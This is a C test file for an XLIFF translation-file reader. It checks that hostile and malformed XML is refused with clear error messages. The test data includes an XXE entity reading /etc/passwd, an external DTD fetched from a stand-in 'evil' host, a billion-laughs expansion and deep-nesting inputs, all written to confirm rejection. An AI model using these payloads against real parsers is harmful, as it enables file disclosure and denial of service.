/* test-hostile.c: hostile and broken XML is refused with a message
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <glib/gstdio.h>
#include <string.h>
#include <sys/resource.h>

#include "bt-error.h"
#include "bt-xliff-reader.h"

#define XLIFF_OPEN "<xliff xmlns=\"urn:oasis:names:tc:xliff:document:2.0\" version=\"2.1\" srcLang=\"zh\">"

static void
assert_refused (const char *data,
                gsize       size,
                int         code,
                const char *message)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(BtReview) review = bt_xliff_read_data (data, size, "hostile.xlf", NULL, &error);

  g_assert_null (review);
  g_assert_error (error, BT_ERROR, code);
  g_test_message ("%s", error->message);
  if (strstr (error->message, message) == NULL)
    g_error ("“%s” lacks “%s”", error->message, message);
  g_assert_true (g_str_has_prefix (error->message, "hostile.xlf"));
}

static void
test_xxe (void)
{
  const char *xml =
    "<?xml version=\"1.0\"?>\n"
    "<!DOCTYPE xliff [\n"
    "  <!ENTITY secret SYSTEM \"file:///etc/passwd\">\n"
    "]>\n" XLIFF_OPEN "<file id=\"f\"><unit id=\"u\"><segment><source>&secret;</source></segment></unit></file></xliff>\n";

  assert_refused (xml, strlen (xml), BT_ERROR_XML, "line 3: the file declares XML entities");
}

static void
test_network_dtd (void)
{
  const char *xml =
    "<?xml version=\"1.0\"?>\n"
    "<!DOCTYPE xliff [ <!ENTITY % remote SYSTEM \"http://example.invalid/evil.dtd\"> %remote; ]>\n"
    XLIFF_OPEN "</xliff>\n";

  assert_refused (xml, strlen (xml), BT_ERROR_XML, "entities");
}

static void
test_billion_laughs (void)
{
  g_autoptr(GString) xml = g_string_new ("<?xml version=\"1.0\"?>\n<!DOCTYPE xliff [\n <!ENTITY lol0 \"lol\">\n");
  struct rusage before, after;

  for (int i = 1; i < 10; i++)
    g_string_append_printf (xml, " <!ENTITY lol%d \"&lol%d;&lol%d;&lol%d;&lol%d;&lol%d;&lol%d;&lol%d;&lol%d;&lol%d;&lol%d;\">\n",
                            i, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1);
  g_string_append (xml, "]>\n" XLIFF_OPEN "<file id=\"f\" original=\"&lol9;\"/></xliff>\n");
  getrusage (RUSAGE_SELF, &before);
  assert_refused (xml->str, xml->len, BT_ERROR_XML, "line 3: the file declares XML entities");
  getrusage (RUSAGE_SELF, &after);
  g_assert_cmpint (after.ru_maxrss - before.ru_maxrss, <, 50 * 1024);
}

static void
test_huge_attribute (gconstpointer data)
{
  gsize length = GPOINTER_TO_SIZE (data);
  g_autoptr(GString) xml = g_string_new ("<?xml version=\"1.0\"?>\n" XLIFF_OPEN "\n<file id=\"");

  for (gsize i = 0; i < length; i++)
    g_string_append_c (xml, 'a');
  g_string_append (xml, "\"/></xliff>\n");
  assert_refused (xml->str, xml->len, length > 10000000 ? BT_ERROR_XML : BT_ERROR_FORMAT, "line ");
}

static void
test_deep_nesting (void)
{
  g_autoptr(GString) xml = g_string_new (XLIFF_OPEN "<file id=\"f\"><unit id=\"u\"><segment><source>");

  for (int i = 0; i < 5000; i++)
    g_string_append (xml, "<pc id=\"x\">");
  assert_refused (xml->str, xml->len, BT_ERROR_XML, "malformed XML");
}

static void
test_too_large (void)
{
  g_autofree char *dir = g_dir_make_tmp ("bitext-hostile-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "big.xlf", NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(BtReview) review = NULL;
  FILE *file = fopen (path, "w");

  g_assert_nonnull (file);
  g_assert_cmpint (fseek (file, BT_XLIFF_MAX_SIZE + 1, SEEK_SET), ==, 0);
  fputc ('>', file);
  fclose (file);
  review = bt_xliff_read_file (path, NULL, &error);
  g_assert_null (review);
  g_assert_error (error, BT_ERROR, BT_ERROR_TOO_LARGE);
  g_assert_nonnull (strstr (error->message, "big.xlf"));
  g_unlink (path);
  g_rmdir (dir);
}

static void
test_garbage (void)
{
  const char binary[] = { 0x00, 0x01, (char) 0xFF, (char) 0xFE, 0x00, 'x' };

  assert_refused (binary, sizeof binary, BT_ERROR_XML, "malformed XML");
  assert_refused ("<a>", 3, BT_ERROR_XML, "line 1: malformed XML");
  assert_refused ("<xliff>caf\xC3</xliff>", 14, BT_ERROR_XML, "malformed XML");
}

/* Hostile parts inside a real review, where the review reader is
 * already under way when it meets them. */
static char *
read_golden (void)
{
  g_autofree char *path = g_build_filename (g_getenv ("BITEXT_FIXTURES_DIR"), "xliff", "golden.xlf", NULL);
  char *xml = NULL;

  g_assert_true (g_file_get_contents (path, &xml, NULL, NULL));
  return xml;
}

static void
test_review_with_entities (void)
{
  g_autofree char *golden = read_golden ();
  g_autoptr(GString) xml = g_string_new (golden);

  g_assert_cmpuint (g_string_replace (xml, "?>\n", "?>\n<!DOCTYPE xliff [\n"
                                      "  <!ENTITY secret SYSTEM \"file:///etc/passwd\">\n]>\n", 1), ==, 1);
  g_assert_cmpuint (g_string_replace (xml, ">Ana<", ">&secret;<", 1), ==, 1);
  assert_refused (xml->str, xml->len, BT_ERROR_XML, "line 3: the file declares XML entities");
}

static void
test_review_huge_attribute (void)
{
  g_autofree char *golden = read_golden ();
  g_autoptr(GString) xml = g_string_new (golden);
  g_autoptr(GString) id = g_string_new ("<unit id=\"p2\" x=\"");

  for (gsize i = 0; i < (gsize) BT_XLIFF_MAX_ATTRIBUTE + 1; i++)
    g_string_append_c (id, 'a');
  g_string_append (id, "\">");
  g_assert_cmpuint (g_string_replace (xml, "<unit id=\"p2\">", id->str, 1), ==, 1);
  assert_refused (xml->str, xml->len, BT_ERROR_FORMAT, "the attribute “x” is longer than");
}

static void
test_review_truncated (void)
{
  g_autofree char *golden = read_golden ();
  gsize half = strlen (golden) / 2;

  assert_refused (golden, half, BT_ERROR_XML, "malformed XML");
}

static void
test_review_deep_meta (void)
{
  g_autofree char *golden = read_golden ();
  g_autoptr(GString) xml = g_string_new (golden);
  g_autoptr(GString) deep = g_string_new ("<mda:meta type=\"text\">");

  for (int i = 0; i < 300; i++)
    g_string_append (deep, "<b>");
  g_assert_cmpuint (g_string_replace (xml, "<mda:meta type=\"text\">", deep->str, 1), ==, 1);
  assert_refused (xml->str, xml->len, BT_ERROR_FORMAT, "line 13: elements nest deeper than 256 levels");
}

static void
test_empty (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(BtReview) review = bt_xliff_read_data ("", 0, "empty.xlf", NULL, &error);

  g_assert_null (review);
  g_assert_error (error, BT_ERROR, BT_ERROR_EMPTY);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/hostile/xxe", test_xxe);
  g_test_add_func ("/hostile/network-dtd", test_network_dtd);
  g_test_add_func ("/hostile/billion-laughs", test_billion_laughs);
  g_test_add_data_func ("/hostile/huge-attribute/2MiB", GSIZE_TO_POINTER (2 << 20), test_huge_attribute);
  g_test_add_data_func ("/hostile/huge-attribute/12MiB", GSIZE_TO_POINTER (12 << 20), test_huge_attribute);
  g_test_add_func ("/hostile/deep-nesting", test_deep_nesting);
  g_test_add_func ("/hostile/too-large", test_too_large);
  g_test_add_func ("/hostile/garbage", test_garbage);
  g_test_add_func ("/hostile/empty", test_empty);
  g_test_add_func ("/hostile/review/entities", test_review_with_entities);
  g_test_add_func ("/hostile/review/huge-attribute", test_review_huge_attribute);
  g_test_add_func ("/hostile/review/truncated", test_review_truncated);
  g_test_add_func ("/hostile/review/deep-meta", test_review_deep_meta);

  return g_test_run ();
}
